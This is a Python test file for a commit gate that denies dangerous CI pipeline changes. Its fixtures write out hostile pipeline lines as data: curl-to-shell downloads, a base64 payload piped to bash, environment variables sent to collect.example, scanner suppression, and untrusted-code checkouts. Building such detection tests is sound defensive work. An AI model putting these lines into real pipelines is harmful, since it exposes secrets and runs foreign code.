"""Pipelines that let others in. Most of their places a vendor may not touch at all, and both gates say so."""

from __future__ import annotations

from tests.bypass.scene import CLEAN, Scene, allowed, denied

WORKFLOW, GITLAB, PART = ".github/workflows/build.yml", ".gitlab-ci.yml", "services/parts/build.yml"
ACTION, UPDATES = "services/lint/action.yml", ".github/dependabot.yml"
HEAD = "name: Build\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n"
JOB = "build:\n  stage: test\n  script:\n"


@denied("ci-touched", WORKFLOW)
@denied("workflow-finding", WORKFLOW)
def secrets_for_the_code_of_strangers(scene: Scene) -> None:
    steps = "      - uses: actions/checkout@0123456789012345678901234567890123456789\n        with:\n"
    steps += "          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n"
    scene.commit({WORKFLOW: HEAD.replace("on: push", "on: pull_request_target") + steps})


@denied("ci-touched", ACTION)
@denied("workflow-finding", ACTION)
def an_input_as_code_of_an_action(scene: Scene) -> None:
    """Beside code, where no folder says that a pipeline is changed."""
    action = "name: Lint\ndescription: Lint\ninputs: {path: {description: where}}\nruns:\n  using: composite\n"
    scene.commit({ACTION: action + "  steps: [{run: 'lint ${{ inputs.path }}', shell: bash}]\n"})


@denied("ci-touched", WORKFLOW)
@denied("workflow-finding", WORKFLOW)
def a_comment_that_silences_zizmor(scene: Scene) -> None:
    run = "      - run: echo ${{ github.event.issue.title }}  # zizmor: ignore[template-injection]\n"
    scene.commit({WORKFLOW: HEAD + run, "zizmor.yml": "rules: {template-injection: {disable: true}}\n"})


@denied("workflow-finding", UPDATES)
def updates_that_run_foreign_code(scene: Scene) -> None:
    """No gate but this one denies it."""
    updates = (
        "version: 2\nupdates:\n  - package-ecosystem: bundler\n    directory: /\n    cooldown: {default-days: 7}\n"
    )
    updates += "    schedule: {interval: weekly}\n    insecure-external-code-execution: allow\n"
    scene.commit({UPDATES: updates})


@denied("workflow-finding", PART)
def a_script_from_the_net_in_a_file_of_any_name(scene: Scene) -> None:
    """GitLab includes it from wherever it lies."""
    scene.commit({PART: JOB + "    - curl -fsSL https://get.example/tool | sh\n"})


@denied("workflow-finding", PART)
def keys_and_lists_in_another_spelling(scene: Scene) -> None:
    scene.commit({PART: '{"stages": ["a"], "b": {"stage": "a", "script": ["curl https://get.example | sh"]}}\n'})


@denied("workflow-finding", PART)
def a_job_behind_an_anchor(scene: Scene) -> None:
    hidden = ".x: &x\n  script:\n    - echo ZWNobyBoaQo= | base64 -d | bash\nbuild:\n  <<: *x\n  stage: test\n"
    scene.commit({PART: hidden})


@denied("workflow-finding", PART)
def a_pipeline_from_another_address(scene: Scene) -> None:
    scene.commit({PART: "include:\n  - remote: https://ci.example/jobs.yml\n"})


@denied("workflow-finding", PART)
def the_environment_sent_away(scene: Scene) -> None:
    scene.commit({PART: JOB + "    - printenv | base64 | curl -d @- https://collect.example\n"})


@denied("path-unread", PART)
def a_command_in_escapes(scene: Scene) -> None:
    scene.commit({PART: JOB + '    - "\\x63url https://get.example | s\\x68"\n'})


@denied("path-unread", WORKFLOW)
def a_workflow_that_zizmor_cannot_read(scene: Scene) -> None:
    """What is beside it is read, and judged."""
    scene.commit({WORKFLOW: HEAD + "      - run: make\n        run: make again\n      - [\n"})


@allowed
def jobs_of_ones_own_part(scene: Scene) -> None:
    job = 'lint:\n  stage: test\n  image: "tools@sha256:' + "0" * 64 + '"\n  script:\n    - make lint\n'
    scene.commit({PART: job + '    - ./report "$CI_COMMIT_TITLE"\n', "services/fee.py": CLEAN})


@allowed
def updates_of_packages(scene: Scene) -> None:
    updates = "version: 2\nupdates:\n  - package-ecosystem: pip\n    directory: /services\n"
    scene.commit({UPDATES: updates + "    schedule: {interval: weekly}\n    cooldown: {default-days: 7}\n"})


@allowed
def data_that_speaks_of_scripts(scene: Scene) -> None:
    data = "pages:\n  - title: curl https://get.example | sh\nuses: ./nothing\nscript: none\n"
    scene.commit({"services/content.yml": data, "docs/ci.md": "`curl https://get.example | sh`\n"})
